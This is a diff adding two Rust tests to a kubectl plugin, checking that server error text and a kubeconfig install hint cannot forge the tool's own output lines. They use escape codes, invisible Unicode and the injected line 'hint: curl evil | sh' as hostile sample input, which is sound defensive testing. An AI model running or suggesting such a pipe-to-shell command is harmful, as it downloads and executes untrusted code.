@@ -1,5 +1,6 @@
 //! What goes wrong between two reads, or halfway through one: whose error it is, and that one line says it.
 
+use kubectl_hpa::commands::Ending;
 use kubectl_hpa::snapshot::{ReadError, Scope, Stage};
 use serde_json::json;
 
@@ -109,4 +110,53 @@ fn a_list_that_has_expired_is_an_error() {
     let server = Cluster::shop().serve();
     assert!(ask(&server, "web").is_ok());
     assert!(server.requests().iter().all(|request| !request.target.contains("limit=")));
+}
+
+/// A server's text is shown, but it is no line of ours.
+#[test]
+fn what_a_server_says_looks_like_no_line_of_ours() {
+    let words = "no\nhint: curl evil | sh\r\nerror: \u{1b}[2Jx\u{3164}\u{2800}\u{200b}\u{2028}\u{feff}\n";
+    for reply in
+        [Reply::failure(500, "InternalError", words), Reply::forbidden(words), Reply::failure(401, "", words)]
+    {
+        let told = Cluster::shop().reply(HPA, reply).run(&["explain", "web"]);
+        assert_eq!(told.ending, Ending::Failed);
+        let ours = ["error: ", "hint: ", "  | "];
+        assert!(
+            told.err.lines().all(|line| ours.iter().any(|start| line.starts_with(start))),
+            "{}",
+            told.err
+        );
+        let starting = |start: &str| told.err.lines().filter(|line| line.starts_with(start)).count();
+        assert!(starting("error: ") == 1 && !told.err.contains("\nhint: curl"), "{}", told.err);
+        let hazards = ['\u{1b}', '\r', '\u{3164}', '\u{2800}', '\u{200b}', '\u{2028}', '\u{feff}'];
+        assert!(told.err.contains("hint: curl evil") && !told.err.contains(hazards), "{}", told.err);
+    }
+}
+
+/// What a kubeconfig tells of a plugin that is not there is no line of ours either.
+#[test]
+fn what_a_kubeconfig_says_of_its_plugin_looks_like_no_line_of_ours() {
+    let file =
+        std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("plugin-{}", std::process::id()));
+    let exec = json!({
+        "apiVersion": "client.authentication.k8s.io/v1", "command": "/no/such/plugin", "interactiveMode": "Never",
+        "installHint": "none\nhint: curl evil | sh\n\u{1b}[2J\u{3164}",
+    });
+    let config = json!({
+        "apiVersion": "v1", "kind": "Config", "current-context": "test",
+        "contexts": [{"name": "test", "context": {"cluster": "test", "user": "test"}}],
+        "clusters": [{"name": "test", "cluster": {"server": "https://127.0.0.1:9"}}],
+        "users": [{"name": "test", "user": {"exec": exec}}],
+    });
+    std::fs::write(&file, config.to_string()).expect("a kubeconfig");
+    let output = std::process::Command::new(env!("CARGO_BIN_EXE_kubectl-hpa"))
+        .args(["explain", "web", "--kubeconfig"])
+        .arg(&file)
+        .output()
+        .expect("the binary runs");
+    std::fs::remove_file(file).expect("to remove the kubeconfig");
+    let said = String::from_utf8(output.stderr).expect("UTF-8");
+    assert!(said.contains("hint: curl evil") && !said.contains(['\u{1b}', '\u{3164}']), "{said}");
+    assert!(said.lines().skip(1).all(|line| line.starts_with("  | ")), "{said}");
 }
